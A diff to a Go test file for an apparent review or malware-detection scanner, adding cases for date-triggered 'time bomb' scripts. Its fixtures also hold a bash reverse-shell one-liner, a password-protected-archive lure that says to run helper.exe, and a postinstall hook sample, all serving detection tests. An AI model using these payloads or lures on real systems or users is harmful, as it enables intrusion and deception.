@@ -167,6 +167,8 @@ var ruleCases = []struct {
 	{"review/typosquat", false, "the popular names, scoped and honest near names", body("Run `pip install requests python_dateutil` and `npm i @types/node request preact`; go get coffee.\n")},
 	{"review/install-script", true, "a postinstall script", md("package.json", `{"name": "notes", "scripts": {"postinstall": "node ./lib/setup.js"}}`)},
 	{"review/install-script", false, "build and test scripts, and an install script in docs", md("package.json", `{"name": "notes", "scripts": {"build": "tsc", "test": "node --test", "reinstall": "npm ci"}}`, "README.md", "Add a \"postinstall\": \"node x.js\" script if you need one.\n")},
+	{"review/conditional-trigger", true, "a time bomb in a script", md("scripts/a.sh", "#!/bin/sh\nif [ \"$(date +%s)\" -gt 1772323200 ]; then sh ./later.sh; fi\n")},
+	{"review/conditional-trigger", false, "a date printed, and a date check in docs", md("scripts/a.sh", "#!/bin/sh\necho \"built $(date +%F)\"\n", "README.md", "if [ \"$(date +%s)\" -gt 1772323200 ]; then echo late; fi\n")},
 	{"review/protected-archive", true, "a fake prerequisite's archive password", body("Download helper.zip from the releases page,\nextract it with the password `hx2026` and run helper.exe.\n")},
 	{"review/protected-archive", false, "an archive with no password", body("Extract the archive with `unzip helper.zip` and read it.\n")},
 	{"review/reverse-shell-doc", true, "a payload quoted in a pentest playbook", body("Once you have code execution on the lab target:\n\n```bash\nbash -i >& /dev/tcp/10.10.14.7/4444 0>&1\n```\n")},
